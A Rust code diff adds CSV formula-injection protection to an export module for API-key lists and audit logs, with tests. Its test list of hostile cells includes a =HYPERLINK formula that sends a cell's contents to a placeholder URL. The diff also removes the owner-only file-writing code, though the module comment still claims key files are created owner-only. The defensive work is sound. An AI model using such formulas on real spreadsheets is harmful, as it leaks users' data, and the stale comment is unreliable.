@@ -1,13 +1,106 @@
 //! Writing CSV: a header row, then one record per row, quoted only where
 //! needed (RFC 4180, `\n` line ends). Files holding key strings are created
 //! owner-only.
+//!
+//! Spreadsheets run a cell that starts with `=`, `+`, `-` or `@` as a formula
+//! (and some strip a leading tab or CR first), so a key named
+//! `=HYPERLINK(…)` could act when the export is opened. Every text cell goes
+//! through [`spreadsheet_safe`]; number cells stay plain numbers so that sums
+//! keep working.
 
-use std::fs::File;
-use std::io::{self, Write};
-use std::path::Path;
+use std::borrow::Cow;
+use std::io;
 
-/// The whole CSV as bytes.
+/// How a column's cells are written.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Column {
+    /// Free text (names, labels, messages): neutralised with [`spreadsheet_safe`].
+    Text,
+    /// A number as [`number`] writes it (or empty): written as it is.
+    Number,
+}
+
+/// Text as a spreadsheet will show it, never run it: a cell starting with
+/// `=`, `+`, `-`, `@`, a tab or a carriage return gets a `'` in front, which
+/// spreadsheets read as "this is text" and do not display.
+pub fn spreadsheet_safe(text: &str) -> Cow<'_, str> {
+    if starts_like_a_formula(text.as_bytes()) {
+        Cow::Owned(format!("'{text}"))
+    } else {
+        Cow::Borrowed(text)
+    }
+}
+
+fn starts_like_a_formula(cell: &[u8]) -> bool {
+    matches!(
+        cell.first(),
+        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
+    )
+}
+
+/// [`spreadsheet_safe`] on bytes (cells need not be UTF-8).
+fn safe_bytes(cell: &[u8]) -> Cow<'_, [u8]> {
+    if starts_like_a_formula(cell) {
+        let mut out = Vec::with_capacity(cell.len() + 1);
+        out.push(b'\'');
+        out.extend_from_slice(cell);
+        Cow::Owned(out)
+    } else {
+        Cow::Borrowed(cell)
+    }
+}
+
+/// Whether a cell is a plain decimal number such as [`number`] writes
+/// (`12.5`, `-5`, `0`): only digits, one optional leading `-` and one
+/// optional `.` between digits. Such a cell cannot be a formula.
+fn is_plain_number(cell: &[u8]) -> bool {
+    let digits = cell.strip_prefix(b"-").unwrap_or(cell);
+    let (int, frac) = match digits.iter().position(|&b| b == b'.') {
+        Some(i) => (&digits[..i], Some(&digits[i + 1..])),
+        None => (digits, None),
+    };
+    let all_digits = |part: &[u8]| !part.is_empty() && part.iter().all(u8::is_ascii_digit);
+    all_digits(int) && frac.is_none_or(all_digits)
+}
+
+/// The whole CSV as bytes, with each column written as `columns` says
+/// (`columns[i]` for the i-th cell of every row; cells past the end are text).
+pub fn to_bytes_typed<R, I, S>(header: &[&str], columns: &[Column], rows: R) -> io::Result<Vec<u8>>
+where
+    R: IntoIterator<Item = I>,
+    I: IntoIterator<Item = S>,
+    S: AsRef<[u8]>,
+{
+    write_all(header, rows, |i, cell| match columns.get(i) {
+        Some(Column::Number) => Cow::Borrowed(cell),
+        _ => safe_bytes(cell),
+    })
+}
+
+/// The whole CSV as bytes, for callers that do not declare column types:
+/// a cell that is a plain number ([`number`]'s form, e.g. `-5`) is written as
+/// it is, every other cell as text through [`spreadsheet_safe`]. Prefer
+/// [`to_bytes_typed`], which also neutralises a text cell such as `-5`.
 pub fn to_bytes<R, I, S>(header: &[&str], rows: R) -> io::Result<Vec<u8>>
+where
+    R: IntoIterator<Item = I>,
+    I: IntoIterator<Item = S>,
+    S: AsRef<[u8]>,
+{
+    write_all(header, rows, |_, cell| {
+        if is_plain_number(cell) {
+            Cow::Borrowed(cell)
+        } else {
+            safe_bytes(cell)
+        }
+    })
+}
+
+fn write_all<R, I, S>(
+    header: &[&str],
+    rows: R,
+    cell: impl for<'c> Fn(usize, &'c [u8]) -> Cow<'c, [u8]>,
+) -> io::Result<Vec<u8>>
 where
     R: IntoIterator<Item = I>,
     I: IntoIterator<Item = S>,
@@ -16,7 +109,8 @@ where
     let mut writer = csv::Writer::from_writer(Vec::new());
     writer.write_record(header)?;
     for row in rows {
-        writer.write_record(row)?;
+        let row: Vec<S> = row.into_iter().collect();
+        writer.write_record(row.iter().enumerate().map(|(i, c)| cell(i, c.as_ref())))?;
     }
     writer
         .into_inner()
@@ -30,33 +124,6 @@ pub fn number(n: f64) -> String {
     } else {
         format!("{n}")
     }
-}
-
-/// Creates (or truncates) a file only its owner can read and write (mode
-/// 0600 on unix). An existing file's mode is tightened before anything is
-/// written to it.
-pub fn create_owner_only(path: &Path) -> io::Result<File> {
-    let mut options = File::options();
-    options.write(true).create(true).truncate(true);
-    #[cfg(unix)]
-    {
-        use std::os::unix::fs::OpenOptionsExt;
-        options.mode(0o600);
-    }
-    let file = options.open(path)?;
-    #[cfg(unix)]
-    {
-        use std::os::unix::fs::PermissionsExt;
-        file.set_permissions(std::fs::Permissions::from_mode(0o600))?;
-    }
-    Ok(file)
-}
-
-/// Writes `bytes` to a new owner-only file and flushes it to disk.
-pub fn write_owner_only(path: &Path, bytes: &[u8]) -> io::Result<()> {
-    let mut file = create_owner_only(path)?;
-    file.write_all(bytes)?;
-    file.sync_all()
 }
 
 #[cfg(test)]
@@ -80,6 +147,120 @@ mod tests {
         );
     }
 
+    const HOSTILE: [&str; 6] = [
+        "=HYPERLINK(\"https://x/?\"&B2,\"Open\")",
+        "+1",
+        "-cmd",
+        "@SUM(A1)",
+        "\tx",
+        "\rx",
+    ];
+
+    fn read_back(bytes: &[u8]) -> Vec<Vec<String>> {
+        csv::ReaderBuilder::new()
+            .has_headers(true)
+            .from_reader(bytes)
+            .records()
+            .map(|r| r.unwrap().iter().map(String::from).collect())
+            .collect()
+    }
+
+    #[test]
+    fn spreadsheet_safe_prefixes_formula_starts_only() {
+        for text in HOSTILE {
+            assert_eq!(spreadsheet_safe(text), format!("'{text}"), "{text:?}");
+        }
+        for text in ["", "Prod", "a=b", " =1", "'quoted", "12.5", "Ünïcode"] {
+            assert!(
+                matches!(spreadsheet_safe(text), Cow::Borrowed(t) if t == text),
+                "{text:?}"
+            );
+        }
+    }
+
+    /// Rows shaped like the app's key list export (name, label, hash, status,
+    /// limit, reset, remaining, usage …) and its audit export (time, action,
+    /// hash, name, changes, outcome): text cells neutralised, numbers as they are.
+    #[test]
+    fn key_list_and_audit_exports_neutralise_names_and_keep_numbers() {
+        for name in HOSTILE {
+            let key_row = vec![
+                name.to_string(),
+                "sk-or-v1-abc...123".into(),
+                "f".repeat(64),
+                "active".into(),
+                number(-5.0),
+                "monthly".into(),
+                number(12.5),
+                number(0.0),
+                "true".into(),
+                String::new(),
+            ];
+            let audit_row = vec![
+                "2026-11-20T10:00:00.000Z".to_string(),
+                "update".into(),
+                "f".repeat(64),
+                name.to_string(),
+                format!("name: {name} -> -renamed"),
+                "ok".into(),
+            ];
+            let kinds = [
+                Column::Text,
+                Column::Text,
+                Column::Text,
+                Column::Text,
+                Column::Number,
+                Column::Text,
+                Column::Number,
+                Column::Number,
+            ];
+            for bytes in [
+                to_bytes(&["name"; 10], [key_row.clone()]).unwrap(),
+                to_bytes_typed(&["name"; 10], &kinds, [key_row]).unwrap(),
+            ] {
+                let row = &read_back(&bytes)[0];
+                assert_eq!(row[0], format!("'{name}"));
+                assert_eq!(row[1], "sk-or-v1-abc...123");
+                assert_eq!(&row[4..8], ["-5", "monthly", "12.5", "0"]);
+                assert_eq!(row[8], "true");
+                assert_eq!(row[9], "");
+            }
+            let row = &read_back(&to_bytes(&["time"; 6], [audit_row]).unwrap())[0];
+            assert_eq!(row[0], "2026-11-20T10:00:00.000Z");
+            assert_eq!(row[3], format!("'{name}"));
+            assert_eq!(row[4], format!("name: {name} -> -renamed"));
+        }
+    }
+
+    #[test]
+    fn typed_text_columns_neutralise_number_looking_text() {
+        let bytes = to_bytes_typed(
+            &["name", "limit"],
+            &[Column::Text, Column::Number],
+            [["-5", "-5"]],
+        )
+        .unwrap();
+        assert_eq!(String::from_utf8(bytes).unwrap(), "name,limit\n'-5,-5\n");
+        // Untyped, a plain number is taken for a number: harmless either way.
+        let bytes = to_bytes(&["name", "limit"], [["-5", "-5"], ["-5x", "1.5.1"]]).unwrap();
+        assert_eq!(
+            String::from_utf8(bytes).unwrap(),
+            "name,limit\n-5,-5\n'-5x,1.5.1\n"
+        );
+    }
+
+    #[test]
+    fn plain_numbers() {
+        for yes in ["0", "-5", "12.5", "1000000000", "-0.0001"] {
+            assert!(is_plain_number(yes.as_bytes()), "{yes}");
+        }
+        for no in [
+            "", "-", ".5", "5.", "1e3", "--5", "-5-", "1.2.3", "+5", "NaN", "-inf",
+        ] {
+            assert!(!is_plain_number(no.as_bytes()), "{no}");
+        }
+    }
+
     #[test]
     fn numbers_are_plain() {
         assert_eq!(number(12.5), "12.5");
@@ -87,23 +268,5 @@ mod tests {
         assert_eq!(number(-0.0), "0");
         assert_eq!(number(0.000_1), "0.0001");
         assert_eq!(number(1e9), "1000000000");
-    }
-
-    #[cfg(unix)]
-    #[test]
-    fn owner_only_even_over_an_existing_file() {
-        use std::os::unix::fs::PermissionsExt;
-        let dir = tempfile::tempdir().unwrap();
-        let path = dir.path().join("keys.csv");
-        std::fs::write(&path, "old").unwrap();
-        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).unwrap();
-        write_owner_only(&path, b"new").unwrap();
-        let mode = std::fs::metadata(&path).unwrap().permissions().mode() & 0o777;
-        assert_eq!(mode, 0o600);
-        assert_eq!(std::fs::read_to_string(&path).unwrap(), "new");
-        let fresh = dir.path().join("fresh.csv");
-        write_owner_only(&fresh, b"x").unwrap();
-        let mode = std::fs::metadata(&fresh).unwrap().permissions().mode() & 0o777;
-        assert_eq!(mode, 0o600);
     }
 }
